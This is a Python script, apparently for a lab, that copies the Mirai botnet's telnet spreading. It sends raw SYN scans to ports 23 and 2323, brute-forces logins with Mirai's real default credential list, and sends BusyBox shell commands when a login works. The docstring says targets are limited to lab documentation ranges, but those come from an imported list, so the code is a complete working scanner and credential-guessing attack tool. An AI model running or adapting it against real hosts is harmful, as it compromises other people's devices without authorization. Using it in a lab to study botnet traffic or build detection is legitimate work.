"""A Mirai-like telnet scan within the lab: raw SYN probes, then logins with weak passwords.

Like Mirai: one raw socket, one source port, sequence number equal to the target,
port 23 for nine in ten probes and 2323 otherwise, up to 160 probes per second in bursts.
Unlike Mirai: the real source address, and targets only in the lab's documentation ranges.
usage: telnet_spread.py SOURCE PROBES SECONDS
"""
import random, socket, struct, sys, threading, time
from places import SCANNED_NETS, TELNET_OUTSIDE

LOGINS = [("root", "xc3511"), ("root", "vizxv"), ("admin", "admin"), ("root", "888888"),
          ("root", "default"), ("support", "support"), ("root", "123456"), ("user", "user")]


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xffff) + (total >> 16)
    return ~(total + (total >> 16)) & 0xffff


def probe(source, target, source_port, port):
    a, b = socket.inet_aton(source), socket.inet_aton(target)
    tcp = struct.pack("!HHIIBBHHH", source_port, port, struct.unpack("!I", b)[0], 0, 0x50, 2,
                      random.randrange(1024, 65535), 0, 0)
    total = checksum(a + b + struct.pack("!BBH", 0, 6, len(tcp)) + tcp)
    return tcp[:16] + struct.pack("!H", total) + tcp[18:]


def log_in(target, port, dice):
    for user, word in dice.sample(LOGINS, 5) + [("root", "xc3511")]:
        try:
            with socket.create_connection((target, port), 3) as line:
                line.settimeout(1.0)
                def wait_for(mark):
                    seen = b""
                    while mark not in seen:
                        data = line.recv(512)
                        if not data:
                            return
                        for i in range(len(data) - 2):  # refuse every telnet option
                            if data[i] == 255 and data[i + 1] in (251, 253):
                                line.sendall(bytes([255, 252 if data[i + 1] == 253 else 254, data[i + 2]]))
                        seen += data
                wait_for(b"login:")
                line.sendall(user.encode() + b"\r\n")
                wait_for(b"assword:")
                line.sendall(word.encode() + b"\r\n")
                time.sleep(0.3)
                if b"BusyBox" in line.recv(512):
                    for command in (b"enable", b"system", b"shell", b"sh", b"/bin/busybox BUSYBOX", b"exit"):
                        line.sendall(command + b"\r\n")
                        time.sleep(0.2)
                    return
        except OSError:
            pass
        time.sleep(0.4)


def main():
    source, probes, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    dice = random.Random(source)
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
    raw.setblocking(False)
    source_port = dice.randrange(20000, 60000)
    found, started, begin = set(), [], time.monotonic()
    bait = {int(probes * (0.1 + 0.2 * i)): ip for i, ip in enumerate(TELNET_OUTSIDE)}
    for number in range(probes):
        target = bait.get(number) or f"{dice.choice(SCANNED_NETS)}.{dice.randrange(1, 255)}"
        port = 23 if number in bait or dice.random() < 0.9 else 2323
        raw.sendto(probe(source, target, source_port, port), (target, 0))
        if number % 20 == 19:
            time.sleep(max(0, begin + seconds * number / probes - time.monotonic()) + dice.uniform(0, 0.05))
        try:
            while True:
                packet = raw.recv(200)
                tcp = packet[(packet[0] & 15) * 4:]
                if tcp[13] & 0x12 == 0x12 and struct.unpack("!H", tcp[2:4])[0] == source_port:
                    who = (socket.inet_ntoa(packet[12:16]), struct.unpack("!H", tcp[:2])[0])
                    if who not in found:
                        found.add(who)
                        worker = threading.Thread(target=log_in, args=(*who, dice))
                        worker.start()
                        started.append(worker)
        except BlockingIOError:
            pass
    for worker in started:
        worker.join()


if __name__ == "__main__":
    main()
